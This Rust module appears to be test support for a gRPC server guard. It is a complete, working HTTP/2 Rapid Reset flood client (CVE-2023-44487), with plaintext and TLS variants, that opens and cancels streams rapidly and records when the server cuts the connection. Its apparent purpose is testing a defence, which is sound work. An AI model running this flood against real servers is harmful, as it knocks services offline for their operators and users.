//! An HTTP/2 Rapid Reset flood (CVE-2023-44487), from a raw client: on one
//! connection, streams opened (a gRPC request's HEADERS) and reset at once
//! (RST_STREAM CANCEL), as fast as the socket takes them or at a set rate,
//! until the server cuts the connection off or the flood is told to stop.
//!
//! Blocking, on threads of its own: a flood must not wait for the runtime
//! of the server it floods. In the clear ([`flood`]) or over TLS
//! ([`flood_tls`]).

// The flood paces itself on the wall clock of its own threads; no runtime
// (and no paused clock) is involved.
#![allow(clippy::disallowed_types)]

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use tonic_deadline_guard::frames::{
    END_HEADERS, GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS, WholeFrames, append_frame,
};

/// HTTP/2's `CANCEL`, the code of every reset.
const CANCEL: u32 = 0x8;

/// How a flood sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Shape {
    /// Streams per second; `None`: as fast as the socket takes them.
    pub rate: Option<u32>,
    /// The `grpc-timeout` each stream carries (`None`: none, as the
    /// published attack tools send).
    pub grpc_timeout: Option<&'static str>,
    /// Streams per write at a set rate (`None`: 2 ms' worth at a time).
    pub per_write: Option<u32>,
}

impl Shape {
    /// As fast as the socket takes them, faster than a server accepts.
    pub const FAST: Shape = Shape {
        rate: None,
        grpc_timeout: None,
        per_write: None,
    };

    /// `rate` streams per second.
    pub const fn at(rate: u32) -> Shape {
        Shape {
            rate: Some(rate),
            grpc_timeout: None,
            per_write: None,
        }
    }

    /// The same, each stream written on its own (its HEADERS and its
    /// RST_STREAM, then the next stream's), as a client that writes each
    /// request's frames as it makes them sends them: a Python HTTP/2
    /// client, say. At a rate the server's accept loop keeps up with, the
    /// server accepts every stream before its reset arrives.
    pub const fn one_per_write(self) -> Shape {
        Shape {
            per_write: Some(1),
            ..self
        }
    }
}

/// What one flooding connection saw.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Flood {
    /// Streams written (opened and reset).
    pub sent: u32,
    /// The GOAWAY the server sent, if one came: its error code and the
    /// last stream it processed.
    pub go_away: Option<(u32, u32)>,
    /// The server closed (or reset) the connection.
    pub closed: bool,
    /// From the first stream to the cut, or to the stop.
    pub lasted: Duration,
}

impl Flood {
    /// The streams the server took before it cut the connection: the last
    /// one its GOAWAY names, or — without a GOAWAY — those written.
    pub fn before_cut(&self) -> u32 {
        match self.go_away {
            Some((_, last)) => last.div_ceil(2),
            None => self.sent,
        }
    }

    /// Whether the server cut the connection off.
    pub fn was_cut(&self) -> bool {
        self.closed || self.go_away.is_some()
    }
}

/// A request's header block in HPACK, with no dynamic table (the same bytes
/// fit every stream): POST http `path`, application/grpc, te: trailers, and
/// `grpc-timeout` when given.
pub fn request_block(authority: &str, path: &str, grpc_timeout: Option<&str>) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static)
    let literal = |block: &mut Vec<u8>, name_index: u8, value: &[u8]| {
        block.push(name_index); // literal without indexing, indexed name
        block.push(u8::try_from(value.len()).expect("a short value"));
        block.extend_from_slice(value);
    };
    literal(&mut block, 0x04, path.as_bytes()); // :path
    literal(&mut block, 0x01, authority.as_bytes()); // :authority
    block.extend([0x0f, 0x10]); // content-type (static index 31)
    block.push(16);
    block.extend_from_slice(b"application/grpc");
    let new_name = |block: &mut Vec<u8>, name: &[u8], value: &[u8]| {
        block.push(0x00); // literal without indexing, new name
        block.push(u8::try_from(name.len()).expect("a short name"));
        block.extend_from_slice(name);
        block.push(u8::try_from(value.len()).expect("a short value"));
        block.extend_from_slice(value);
    };
    new_name(&mut block, b"te", b"trailers");
    if let Some(timeout) = grpc_timeout {
        new_name(&mut block, b"grpc-timeout", timeout.as_bytes());
    }
    block
}

/// One raw connection to `addr` that opens a stream of `path` and resets
/// it at once, `wait` after the connection is made: the first stream of a
/// flood, and no more. The connection is returned open.
///
/// # Panics
///
/// When the server does not accept the connection or the bytes.
pub fn early_reset_after(addr: SocketAddr, path: &str, wait: Duration) -> TcpStream {
    let mut tcp = TcpStream::connect(addr).expect("the server accepts TCP");
    std::thread::sleep(wait);
    let mut wire = PREFACE.to_vec();
    append_frame(&mut wire, SETTINGS, 0, 0, &[]);
    let block = request_block(&addr.to_string(), path, None);
    append_frame(&mut wire, HEADERS, END_HEADERS, 1, &block);
    append_frame(&mut wire, RST_STREAM, 0, 1, &CANCEL.to_be_bytes());
    tcp.write_all(&wire).expect("the flood is taken");
    tcp
}

/// [`early_reset_after`] with no wait.
///
/// # Panics
///
/// As [`early_reset_after`].
pub fn one_early_reset(addr: SocketAddr, path: &str) -> TcpStream {
    early_reset_after(addr, path, Duration::ZERO)
}

/// Floods `addr` on one new connection until the server cuts it off,
/// `stop` is set, or `give_up` has passed.
///
/// # Panics
///
/// When the server does not accept the connection.
pub fn flood(
    addr: SocketAddr,
    path: &str,
    shape: Shape,
    stop: &AtomicBool,
    give_up: Duration,
) -> Flood {
    let mut tcp = TcpStream::connect(addr).expect("the server accepts TCP");
    tcp.set_nodelay(true).expect("nodelay");
    let mut start = PREFACE.to_vec();
    append_frame(&mut start, SETTINGS, 0, 0, &[]);
    tcp.write_all(&start).expect("the preface is taken");
    let mut reader = tcp.try_clone().expect("a second handle");
    // Bounds the wait for the server's last bytes once the flood stops.
    reader
        .set_read_timeout(Some(Duration::from_secs(2)))
        .expect("a read timeout");
    // Set once the server has said GOAWAY or closed: the flood stops there.
    let cut = std::sync::Arc::new(AtomicBool::new(false));
    let read_side = std::thread::spawn({
        let cut = cut.clone();
        move || {
            let mut frames = WholeFrames::from_server();
            let mut buf = vec![0; 64 * 1024];
            let mut go_away = None;
            while let Ok(n @ 1..) = reader.read(&mut buf) {
                for frame in frames.feed(&buf[..n]) {
                    if frame.header.kind == GOAWAY && frame.payload.len() >= 8 {
                        let p = &frame.payload;
                        let last = u32::from_be_bytes([p[0], p[1], p[2], p[3]]) & 0x7fff_ffff;
                        go_away = Some((frame.error_code().unwrap_or_default(), last));
                        cut.store(true, Ordering::Relaxed);
                    }
                }
            }
            cut.store(true, Ordering::Relaxed);
            go_away
        }
    });
    let block = request_block(&addr.to_string(), path, shape.grpc_timeout);
    // A write a few milliseconds' worth at the set rate (or as many as
    // the shape says), or 512 streams.
    let (per_write, every) = match shape.rate {
        None => (512, Duration::ZERO),
        Some(rate) => {
            let per_write = shape.per_write.unwrap_or(rate / 500).max(1);
            (
                per_write,
                Duration::from_secs_f64(f64::from(per_write) / f64::from(rate)),
            )
        }
    };
    let started = Instant::now();
    let mut sent = 0u32;
    let mut closed = false;
    let mut batch = Vec::new();
    let mut id = 1u32;
    while !stop.load(Ordering::Relaxed) && started.elapsed() < give_up {
        if cut.load(Ordering::Relaxed) {
            closed = true;
            break;
        }
        batch.clear();
        for _ in 0..per_write {
            append_frame(&mut batch, HEADERS, END_HEADERS, id, &block);
            append_frame(&mut batch, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
            id += 2;
        }
        if tcp.write_all(&batch).is_err() {
            closed = true;
            break;
        }
        sent += per_write;
        if !every.is_zero() {
            // Paced from the start, so a late wake-up is made up for.
            let due = every.mul_f64(f64::from(sent / per_write));
            if let Some(wait) = due.checked_sub(started.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    let lasted = started.elapsed();
    // The write side only: a write that failed because the server closed
    // must not stop the reading thread before it has read the GOAWAY that
    // came first.
    let _ = tcp.shutdown(Shutdown::Write);
    Flood {
        sent,
        go_away: read_side.join().expect("the reading thread"),
        closed,
        lasted,
    }
}

/// [`flood`] over TLS (`tls` trusts the server's certificate; the name asked
/// for is [`crate::tls::SERVER_NAME`]): the same streams, written through a
/// TLS session as the socket takes them. A connection the server holds
/// unread is given up on at `give_up`, or when `stop` is set.
///
/// # Panics
///
/// When the server does not accept the connection.
pub fn flood_tls(
    addr: SocketAddr,
    tls: &std::sync::Arc<rustls::ClientConfig>,
    path: &str,
    shape: Shape,
    stop: &AtomicBool,
    give_up: Duration,
) -> Flood {
    let started = Instant::now();
    let mut tcp = TcpStream::connect(addr).expect("the server accepts TCP");
    tcp.set_nodelay(true).expect("nodelay");
    let mut conn = rustls::ClientConnection::new(tls.clone(), crate::tls::server_name())
        .expect("a TLS client session");
    tcp.set_read_timeout(Some(Duration::from_secs(2)))
        .expect("a read timeout");
    while conn.is_handshaking() {
        if conn.complete_io(&mut tcp).is_err() {
            // Refused or dropped before the handshake was over.
            return Flood {
                sent: 0,
                go_away: None,
                closed: true,
                lasted: started.elapsed(),
            };
        }
    }
    // As in `flood`: a thread reads the server while this one writes, so
    // that a GOAWAY is read the moment it comes, before a reset of the
    // connection could throw it away. The session is shared: the reader
    // decrypts, the writer encrypts, each briefly under the lock.
    tcp.set_read_timeout(Some(Duration::from_secs(2)))
        .expect("a read timeout");
    tcp.set_write_timeout(Some(Duration::from_millis(50)))
        .expect("a write timeout");
    let conn = std::sync::Arc::new(std::sync::Mutex::new(conn));
    let cut = std::sync::Arc::new(AtomicBool::new(false));
    let read_side = std::thread::spawn({
        let (conn, cut) = (conn.clone(), cut.clone());
        let mut reader = tcp.try_clone().expect("a second handle");
        move || {
            let mut frames = WholeFrames::from_server();
            let mut buf = vec![0; 64 * 1024];
            let mut plain = vec![0; 64 * 1024];
            let mut go_away = None;
            'read: while let Ok(n @ 1..) = reader.read(&mut buf) {
                let mut conn = conn.lock().expect("the session");
                let mut ciphertext = &buf[..n];
                while !ciphertext.is_empty() {
                    if conn.read_tls(&mut ciphertext).is_err()
                        || conn.process_new_packets().is_err()
                    {
                        break 'read;
                    }
                    while let Ok(n @ 1..) = conn.reader().read(&mut plain) {
                        for frame in frames.feed(&plain[..n]) {
                            if frame.header.kind == GOAWAY && frame.payload.len() >= 8 {
                                let p = &frame.payload;
                                let last =
                                    u32::from_be_bytes([p[0], p[1], p[2], p[3]]) & 0x7fff_ffff;
                                go_away = Some((frame.error_code().unwrap_or_default(), last));
                                cut.store(true, Ordering::Relaxed);
                            }
                        }
                    }
                }
            }
            cut.store(true, Ordering::Relaxed);
            go_away
        }
    });
    let mut start = PREFACE.to_vec();
    append_frame(&mut start, SETTINGS, 0, 0, &[]);
    let block = request_block(&addr.to_string(), path, shape.grpc_timeout);
    let (per_write, every) = match shape.rate {
        None => (512, Duration::ZERO),
        Some(rate) => {
            let per_write = shape.per_write.unwrap_or(rate / 500).max(1);
            (
                per_write,
                Duration::from_secs_f64(f64::from(per_write) / f64::from(rate)),
            )
        }
    };
    let flooding = Instant::now();
    let mut sent = 0u32;
    let mut closed = false;
    let mut batch = start;
    let mut ciphertext = Vec::new();
    let mut id = 1u32;
    let over = || stop.load(Ordering::Relaxed) || started.elapsed() >= give_up;
    'flood: while !over() {
        if cut.load(Ordering::Relaxed) {
            closed = true;
            break;
        }
        for _ in 0..per_write {
            append_frame(&mut batch, HEADERS, END_HEADERS, id, &block);
            append_frame(&mut batch, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
            id += 2;
        }
        {
            let mut conn = conn.lock().expect("the session");
            let _ = conn.writer().write_all(&batch);
            while conn.wants_write() {
                let _ = conn.write_tls(&mut ciphertext);
            }
        }
        batch.clear();
        let mut written = 0;
        while written < ciphertext.len() {
            match tcp.write(&ciphertext[written..]) {
                Ok(0) => {
                    closed = true;
                    break 'flood;
                }
                Ok(n) => written += n,
                Err(e)
                    if matches!(
                        e.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) =>
                {
                    // The server reads no more for now: give up when told,
                    // or when the reader has seen the cut.
                    if over() || cut.load(Ordering::Relaxed) {
                        closed = cut.load(Ordering::Relaxed);
                        break 'flood;
                    }
                }
                Err(_) => {
                    closed = true;
                    break 'flood;
                }
            }
        }
        ciphertext.clear();
        sent += per_write;
        if !every.is_zero() {
            let due = every.mul_f64(f64::from(sent / per_write));
            if let Some(wait) = due.checked_sub(flooding.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    let lasted = flooding.elapsed();
    // The write side only: the reader still takes the server's last bytes.
    let _ = tcp.shutdown(Shutdown::Write);
    Flood {
        sent,
        go_away: read_side.join().expect("the reading thread"),
        closed,
        lasted,
    }
}
